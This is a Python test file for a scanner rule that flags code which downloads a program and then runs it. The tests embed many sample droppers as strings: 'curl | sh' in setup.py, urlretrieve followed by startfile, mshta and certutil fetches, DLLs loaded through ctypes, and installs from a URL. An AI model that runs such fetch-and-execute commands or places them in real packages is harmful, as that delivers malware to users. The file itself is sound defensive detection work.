"""Downloaded programs that are started."""

from lazaretto.detect.rules.python.downloads_and_runs import RULE


def test_at_import(scan):
    text = r"""import os, urllib.request
path = os.path.join(os.getenv("TEMP"), "a.exe")
urllib.request.urlretrieve("https://files.example.test/a.exe", path)
os.startfile(path)
"""
    assert scan(RULE, text, "package/__init__.py") == [(4, "HIGH", "HIGH", "import")]


def test_with_requests_and_open(scan):
    text = r"""import requests, subprocess
def get():
    answer = requests.get("https://files.example.test/a.bin")
    with open("/tmp/a.bin", "wb") as f:
        f.write(answer.content)
    subprocess.call(["/tmp/a.bin"])
get()
"""
    assert scan(RULE, text, "setup.py") == [(6, "HIGH", "HIGH", "install")]


def test_a_pipe_to_a_shell(scan):
    text = r"""import os
os.system("curl -fsSL https://files.example.test/x | sh")
"""
    assert scan(RULE, text, "setup.py") == [(2, "HIGH", "HIGH", "install")]


def test_two_commands(scan):
    text = r"""import os
os.system("curl -s https://files.example.test/x -o /tmp/.hidden.py")
os.system("python3 /tmp/.hidden.py")
"""
    assert scan(RULE, text, "package/__init__.py") == [(3, "HIGH", "HIGH", "import")]


def test_when_asked_it_is_context(scan):
    text = r"""import urllib.request, subprocess, sys
def install():
    urllib.request.urlretrieve("https://files.example.test/get-tool.py", "get-tool.py")
    subprocess.run([sys.executable, "get-tool.py"])
"""
    assert scan(RULE, text) == [(4, "MEDIUM", "LOW", "run")]


def test_near_miss_a_saved_data_set(scan):
    text = r"""import urllib.request, subprocess
urllib.request.urlretrieve("https://files.example.test/data.csv", "data.csv")
subprocess.run(["ls", "-l"])
"""
    assert scan(RULE, text) == []


def test_a_short_file_name(scan):
    text = r"""import os, requests
with open("m.py", "wb") as f:
    f.write(requests.get("https://files.example.test/m").content)
os.system("py m.py")
"""
    assert scan(RULE, text, "package/__init__.py") == [(4, "HIGH", "HIGH", "import")]


def test_near_miss_a_longer_name_that_ends_alike(scan):
    text = r"""import os, requests
with open("m.py", "wb") as f:
    f.write(requests.get("https://files.example.test/m").content)
os.system("python form.py")
"""
    assert scan(RULE, text, "package/__init__.py") == []


def test_a_repository_is_cloned_and_a_file_of_it_started(scan):
    text = r"""import os, subprocess
import git
def load():
    folder = os.path.join("C:", "work")
    git.Repo.clone_from("https://code.example.test/a.git", folder)
    os.chdir(folder)
    subprocess.run(["python", "start.py"])
load()
"""
    assert scan(RULE, text, "setup.py") == [(7, "HIGH", "HIGH", "install")]


def test_near_miss_a_clone_and_a_build(scan):
    text = r"""import os, subprocess
import git
git.Repo.clone_from("https://code.example.test/a.git", "native")
subprocess.run(["cmake", "--version"])
"""
    assert scan(RULE, text, "setup.py") == []


def test_a_package_installed_from_an_address(scan):
    text = r"""import os, sys
os.system(f"{sys.executable} -m pip install https://files.example.test/packages/a.tar.gz")
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]


def test_near_miss_a_package_installed_by_name(scan):
    text = r"""import os, sys
os.system(f"{sys.executable} -m pip install colours")
"""
    assert scan(RULE, text, "package/__init__.py") == []


def test_an_address_from_a_paste_is_downloaded_and_started(scan):
    text = r"""import subprocess, urllib.request
def where():
    return urllib.request.urlopen("https://rentry.co/0000/raw").read().decode().split()[0]
def load():
    subprocess.call(f"curl -o a.bin {where()} && start a.bin", shell=True)
"""
    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]


def test_a_package_that_is_nothing_but_a_dropper(scan):
    text = r"""import os, requests, subprocess, tempfile
def init(url):
    path = os.path.join(tempfile.gettempdir(), os.path.basename(url))
    with open(path, "wb") as file:
        file.write(requests.get(url).content)
    subprocess.run([path])
"""
    assert scan(RULE, text, "package/__init__.py") == [(6, "MEDIUM", "MEDIUM", "run")]
    assert scan(RULE, text, "package/update.py") == [(6, "MEDIUM", "LOW", "run")]


def test_a_module_is_downloaded_and_imported(scan):
    text = r"""import os, requests
open(os.path.join(os.path.dirname(__file__), "_more.py"), "w").write(requests.get("https://files.example.test/m").text)
from . import _more
"""
    assert (3, "HIGH", "HIGH", "import") in scan(RULE, text, "package/__init__.py")
    assert scan(RULE, text.replace("import _more", "import other"), "package/__init__.py") == []


def test_programs_of_the_system_that_fetch(scan):
    for command in ("mshta https://files.example.test/a.hta", "certutil -urlcache -f https://files.example.test/a a"):
        assert scan(RULE, f"import os\nos.system({command!r})\n", "package/__init__.py") == [
            (2, "HIGH", "HIGH", "import")
        ]
    assert scan(RULE, "import os\nos.system('certutil -hashfile a.zip')\n", "package/__init__.py") == []


def test_a_path_of_one_letter(scan):
    text = r"""import os, urllib.request
urllib.request.urlretrieve("https://files.example.test/a", "/tmp/a")
os.system("/tmp/a &")
"""
    assert scan(RULE, text, "setup.py") == [(3, "HIGH", "HIGH", "install")]
    assert scan(RULE, text.replace("/tmp/a &", "ls /tmp/abc"), "setup.py") == []


def test_a_library_that_is_loaded(scan):
    text = """import ctypes, urllib.request
urllib.request.urlretrieve("https://files.example.test/a.dll", "a.dll")
ctypes.CDLL("a.dll")
"""
    assert scan(RULE, text, "package/__init__.py") == [(3, "HIGH", "HIGH", "import")]


def test_a_dropper_that_is_tried_out(scan):
    text = """import requests, subprocess
def go():
    open("a.exe", "wb").write(requests.get("http://localhost:3000/a.exe").content)
    subprocess.Popen(["a.exe"])
"""
    assert scan(RULE, text) == [(4, "MEDIUM", "MEDIUM", "run")]
